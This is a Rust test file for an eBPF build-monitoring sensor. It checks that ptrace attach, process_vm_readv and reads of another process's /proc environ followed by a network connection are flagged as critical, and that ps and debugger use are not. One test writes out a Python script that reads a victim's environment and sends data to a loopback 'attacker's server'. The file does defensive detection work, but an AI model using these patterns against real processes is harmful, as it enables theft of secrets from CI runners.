//! The process-memory sensor under real eBPF: ptrace attach and process_vm_readv against a
//! process the run did not start (the stand-in for a CI runner holding secrets), and the same
//! calls on the run's own child, which a debugger or profiler makes as a matter of course.

use std::{
    fs,
    process::{Child, Command, Stdio},
};

use buildwatch_tests::*;

const TRIGGER: &str = env!("CARGO_BIN_EXE_bw-trigger");

/// A process outside the run, killed when the test ends however it ends.
struct Victim(Child);

impl Victim {
    fn start() -> Self {
        let victim = Self(
            Command::new("sleep")
                .arg("60")
                .stdin(Stdio::null())
                .spawn()
                .expect("start sleep"),
        );
        // Wait (bounded) for the exec so its first mapping is sleep's, not ours.
        for _ in 0..1000 {
            let exe = fs::read_link(format!("/proc/{}/exe", victim.0.id()));
            if exe.is_ok_and(|e| e.file_name().is_some_and(|n| n == "sleep")) {
                return victim;
            }
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        panic!("sleep never started");
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn memory_of_a_process_outside_the_run_is_critical() {
    if !require_bpf() {
        return;
    }
    let victim = Victim::start();
    let vpid = victim.0.id();
    let sleep_exe = fs::canonicalize(format!("/proc/{vpid}/exe")).unwrap();
    let tmp = TempDir::new("procmem-out");
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &[],
        &[TRIGGER, "peek", &vpid.to_string()],
    );
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    // The trigger really read the victim's memory: its ELF header.
    assert_eq!(String::from_utf8_lossy(&w.out.stdout).trim(), "7f454c46");

    let evs = w.events();
    let vm = evs
        .iter()
        .find(|e| e["kind"] == "process_vm")
        .unwrap_or_else(|| panic!("no process_vm event: {evs:#?}"));
    assert_eq!(vm["process_vm"]["op"], "read");
    assert_eq!(vm["process_vm"]["ret"], 4);
    assert_eq!(vm["process_vm"]["target"]["pid"], vpid);
    assert_eq!(
        vm["process_vm"]["target"]["exe"],
        sleep_exe.to_str().unwrap()
    );
    let pt = evs
        .iter()
        .find(|e| e["kind"] == "ptrace")
        .unwrap_or_else(|| panic!("no ptrace event: {evs:#?}"));
    assert_eq!(pt["ptrace"]["request"], "attach");
    assert_eq!(pt["ptrace"]["ret"], 0);
    assert_eq!(pt["ptrace"]["target"]["pid"], vpid);
    assert_eq!(pt["exe"], TRIGGER);
    // Only the attach is reported: the detach that follows is not an attaching request.
    assert_eq!(evs.iter().filter(|e| e["kind"] == "ptrace").count(), 1);

    for rule in ["ptrace-attach-outside-run", "access-other-process-memory"] {
        let f = w.finding(rule);
        assert_eq!(f["severity"], "critical", "{rule}");
        assert_eq!(f["category"], "process-memory", "{rule}");
        assert_eq!(f["detail"]["target"]["pid"], vpid, "{rule}");
        assert_eq!(f["process"]["exe"], TRIGGER, "{rule}");
    }
    assert!(
        !w.rules()
            .contains(&"ptrace-attach-other-process".to_owned())
    );
    assert_replay_matches(&w, tmp.path(), &[]);
}

#[test]
fn a_debugger_reading_its_own_child_is_not_a_finding() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("procmem-child");
    let w = watch(&tmp, tmp.path(), &[], &[], &[TRIGGER, "peek-child"]);
    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
    assert_eq!(String::from_utf8_lossy(&w.out.stdout).trim(), "7f454c46");
    let evs = w.events();
    let child = evs
        .iter()
        .find(|e| e["kind"] == "fork" && e["exe"] == TRIGGER)
        .expect("the trigger's fork")["fork"]["child"]
        .clone();
    let pt = evs
        .iter()
        .find(|e| e["kind"] == "ptrace")
        .unwrap_or_else(|| panic!("no ptrace event: {evs:#?}"));
    assert_eq!(pt["ptrace"]["request"], "seize");
    assert_eq!(pt["ptrace"]["target"]["pid"], child);
    let vm = evs
        .iter()
        .find(|e| e["kind"] == "process_vm")
        .expect("process_vm event");
    assert_eq!(vm["process_vm"]["target"]["pid"], child);
    assert_eq!(vm["process_vm"]["ret"], 4);
    let memory: Vec<_> = w.report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["category"] == "process-memory")
        .collect();
    assert!(memory.is_empty(), "{memory:#?}");
    assert_replay_matches(&w, tmp.path(), &[]);
}

/// Findings of high severity or above.
fn serious(w: &Watched) -> Vec<Value> {
    w.report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "high" || f["severity"] == "critical")
        .cloned()
        .collect()
}

#[test]
fn listing_processes_with_ps_and_top_is_not_a_high_finding() {
    if !require_bpf() {
        return;
    }
    // Something outside the run whose environment ps can read.
    let _victim = Victim::start();
    let tmp = TempDir::new("procmem-ps");
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &[],
        &[
            "sh",
            "-c",
            "ps aux >/dev/null && ps eww -e >/dev/null && top -b -n1 >/dev/null",
        ],
    );
    let evs = w.events();
    // ps really read other processes' environments (else this test proves nothing).
    let environ_reads = evs
        .iter()
        .filter(|e| {
            e["kind"] == "open"
                && e["open"]["ret"].as_i64().is_some_and(|r| r >= 0)
                && e["open"]["path"]
                    .as_str()
                    .is_some_and(|p| p.starts_with("/proc/") && p.ends_with("/environ"))
        })
        .count();
    assert!(
        environ_reads >= 2,
        "ps read no environment: {environ_reads}"
    );
    assert_eq!(serious(&w), Vec::<Value>::new());
    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
    // Recorded, once per listing process, at low severity.
    let listing: Vec<_> = w.report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "process-listing-read-environ")
        .collect();
    assert!(!listing.is_empty(), "{:#?}", w.report["findings"]);
    assert!(listing.iter().all(|f| f["severity"] == "low"));
    assert!(listing.len() <= 2, "one finding per ps: {listing:#?}");
    assert_replay_matches(&w, tmp.path(), &[]);
}

#[test]
fn reading_another_processs_environment_and_then_connecting_is_critical() {
    if !require_bpf() {
        return;
    }
    let victim = Victim::start();
    let vpid = victim.0.id();
    // The "attacker's server", on loopback; the policy does not allow loopback, so the
    // connection counts as leaving.
    let listener = std::net::TcpListener::bind("127.0.0.41:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let tmp = TempDir::new("procmem-environ-egress");
    let policy = tmp.join("policy.yaml");
    fs::write(&policy, "allow_loopback: false\nfail_on: never\n").unwrap();
    // Targeted (no listing), and listed first (as a sweep of /proc does): both then connect.
    for (name, list) in [("targeted", ""), ("sweep", "os.listdir('/proc'); ")] {
        let script = format!(
            "import os, socket\n{list}data = open('/proc/{vpid}/environ', 'rb').read()\n\
             s = socket.create_connection(('127.0.0.41', {port}))\ns.sendall(b'x' if data else b'')\ns.close()\n"
        );
        let w = watch(
            &tmp,
            tmp.path(),
            &[],
            &["--policy", policy.to_str().unwrap()],
            &["python3", "-c", &script],
        );
        assert_eq!(w.out.status.code(), Some(0), "{name}: {}", w.stderr());
        let f = w.finding("environ-read-then-egress");
        assert_eq!(f["severity"], "critical", "{name}: {f:#}");
        assert!(
            f["message"]
                .as_str()
                .is_some_and(|m| m.contains(&format!("127.0.0.41:{port}"))),
            "{name}: {f:#}"
        );
        let rules = w.rules();
        match name {
            "targeted" => assert!(
                rules.contains(&"read-other-process-environ".to_owned()),
                "{rules:?}"
            ),
            _ => assert!(
                rules.contains(&"process-listing-read-environ".to_owned()),
                "{rules:?}"
            ),
        }
    }
    drop(listener);
}
